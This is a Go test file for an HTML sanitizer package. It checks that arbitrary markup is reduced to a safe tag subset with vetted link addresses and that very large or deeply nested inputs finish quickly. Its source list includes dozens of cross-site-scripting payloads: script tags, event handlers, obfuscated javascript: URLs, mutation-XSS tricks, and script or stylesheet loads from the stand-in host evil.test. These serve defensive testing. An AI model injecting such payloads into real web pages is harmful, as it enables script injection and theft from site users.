package rich

import (
	"encoding/json"
	"flag"
	"math/rand"
	"os"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "write what is read into testdata")

// sources are texts as people, programs and attackers send them.
var sources = []string{
	"", "plain", "two\nlines  and   spaces ", "<p>a</p><p>b</p>", "a<br>b<br><br><br>c<br>", "<div>a<div>b</div>c</div>",
	"<p><b>bold <i>both</b> em?</i></p>", "a <strong>b</strong> c", "<strong>a </strong>b", "<p>&nbsp;</p>", "<p>a&nbsp;&nbsp;b &amp; &lt;c&gt; &copy; &#20013;&#x6587; &#0; &#xd800; &#1114112; &amp;lt;</p>",
	"<h1>T</h1>x<h3>t</h3><h6>u</h6>", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul><ol><li>d</ol>", "<ol><li><p>a</p><p>b</p></li></ol>", "<ul><ul><ul><ul><ul><ul><li>deep</ul></ul></ul></ul></ul></ul>",
	"<li>alone", "<blockquote>q<p>r</p><ul><li>s</li></ul></blockquote>t", "<table><thead><tr><th>A<th>B</tr></thead><tbody><tr><td>1<br>x</td><td></td></tr></table><table><td>2</table>",
	"<table>loose<tr><td><ul><li>x</li><li>y</li></ul><td><h2>z</h2>w<table><tr><td>in</table></table>after", "<td>stray</td><tr>rows",
	`<a href="https://example.com/a?b=1&amp;c=2">l<b>in</b>k</a>`, `<a href='mailto:a@example.com'>m</a> <a href=tel:+86-10>t</a>`, `<a href="HTTPS://Example.com">x</a>`,
	// What attackers send.
	`<script>alert(1)</script>a`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT >b`, `<img src=x onerror=alert(1)>c`, `<svg onload=alert(1)><script>alert(1)</script></svg>d`, `<svg><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.test">x</a>`, `<a href="https://bank.test@evil.test/">x</a>`, `<a href="https:evil">x</a>`, `<a href="https://x&quot; onmouseover=&quot;alert(1)">x</a>`,
	`<p style="background:url(javascript:alert(1))" onclick="alert(1)" id="body" class=x>p</p>`, `<style>@import url(//evil.test)</style>s`, `<base href="//evil.test/"><form action="//evil.test"><input name=attributes><button>b</button></form>`,
	`<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">`, `<object data="x"></object><embed src=x>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>t`, `<textarea></textarea><img src=x onerror=alert(1)>`, `<xmp><p></xmp><b>x`, `<!--><img src=x onerror=alert(1)>--> after`, `<!-- a --!> b --> c`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?php echo 1 ?>x`,
	`<<b>a</b>`, `a < b > c`, `<b`, `<b foo="bar`, `</`, `</ b>x`, `<a href="x`, "<p/onclick=alert(1)/>x", `<b/><i>x`, `<a href=https://a.test/?<script>alert(1)</script>>x`, "<scr<script>ipt>alert(1)</scr</script>ipt>", `&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>`, "<o:p></o:p><p class=MsoNormal><span lang=EN-US style='mso-x:1'>Word<o:p></o:p></span></p><!--[if gte mso 9]><xml>x</xml><![endif]-->", "<a href=\"https://e.test/\u202e\">x</a>",
}

type oneCase struct{ In, Markup, Text, Said string }

// soup is a random text of pieces of markup.
func soup(random *rand.Rand) string {
	pieces := []string{"<p>", "</p>", "<b>", "</b>", "<em>", "</i>", "<u>", "<s>", "</s>", "<h2>", "</h2>", "<h3>", "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>", "<blockquote>", "</blockquote>",
		"<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>", "<th>", "<br>", "<br/>", "<a href=https://a.test>", "<a href='javascript:x'>", "</a>", "<script>", "</script>", "<svg>", "</svg>", "<!--", "-->",
		"<div>", "</div>", "a", "中文", "😀", " ", "\n", "&amp;", "&lt;", "<", ">", "\"", "&#65;", "&nbsp;", "x y", "&", ";"}
	var b strings.Builder
	for range 1 + random.Intn(40) {
		b.WriteString(pieces[random.Intn(len(pieces))])
	}
	return b.String()
}

func TestRead(t *testing.T) {
	const path = "testdata/cases.json"
	if *update {
		random, all := rand.New(rand.NewSource(6)), sources
		for range 600 {
			all = append(all, soup(random))
		}
		var cases []oneCase
		for _, in := range all {
			d := Read(in)
			cases = append(cases, oneCase{in, d.Markup(), d.Text(), d.Said()})
		}
		out, err := json.MarshalIndent(cases, "", " ")
		if err != nil || os.WriteFile(path, append(out, '\n'), 0o644) != nil {
			t.Fatal(err)
		}
	}
	raw, err := os.ReadFile(path)
	var cases []oneCase
	if err != nil || json.Unmarshal(raw, &cases) != nil || len(cases) < len(sources) {
		t.Fatal(err, len(cases))
	}
	for _, c := range cases {
		d := Read(c.In)
		if got := (oneCase{c.In, d.Markup(), d.Text(), d.Said()}); got != c {
			t.Errorf("%q\n got %q\nwant %q", c.In, got, c)
		}
		sound(t, c.In)
	}
}

// sound holds what is written against the subset: only its elements, no attribute but an address, one writing.
func sound(t testing.TB, in string) {
	t.Helper()
	d := Read(in)
	out := d.Markup()
	again := Read(out)
	if again.Markup() != out || again.Text() != d.Text() {
		t.Errorf("%q is written %q, and that %q", in, out, again.Markup())
	}
	for rest := out; ; {
		_, tag, found := strings.Cut(rest, "<")
		if !found {
			break
		}
		tag, rest, _ = strings.Cut(tag, ">")
		name := strings.TrimPrefix(tag, "/")
		if href, is := strings.CutPrefix(name, `a href="`); is {
			href, end := strings.CutSuffix(href, `"`)
			if !end || Address(href) == "" || strings.Contains(href, `"`) {
				t.Errorf("%q leads to %q", in, href)
			}
			continue
		}
		if !strings.Contains(" p br strong em u s h2 h3 ul ol li blockquote a table tr td th ", " "+name+" ") {
			t.Errorf("%q is written with %q", in, tag)
		}
	}
}

func TestRead_Hostile(t *testing.T) {
	began := time.Now()
	deep := func(open, close string) string {
		return strings.Repeat(open, 10_000) + "x" + strings.Repeat(close, 10_000)
	}
	for _, in := range []string{deep("<div>", "</div>"), deep("<b>", "</b>"), deep("<ul><li>", "</li></ul>"), deep("<blockquote>", "</blockquote>"), deep("<table><tr><td>", "</td></tr></table>"),
		strings.Repeat("<a href=x ", 500_000), strings.Repeat("<!--", 1_000_000), strings.Repeat("<script>", 600_000), strings.Repeat("<", 5<<20), strings.Repeat("&", 5<<20), strings.Repeat("a", 5<<20), strings.Repeat("</x", 1_000_000), strings.Repeat(" ", 5<<20)} {
		if d := Read(in); len(in) < 400_000 && strings.TrimSpace(d.Text()) != "x" {
			t.Errorf("%.20q is %.20q", in, d.Text())
		}
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("it took %v", took)
	}
	sound(t, deep("<ul><li>", ""))
	sound(t, deep("<p><b><i>", "</b>"))
}

func FuzzRead(f *testing.F) {
	for _, in := range sources {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		sound(t, strings.ToValidUTF8(in, "?"))
	})
}
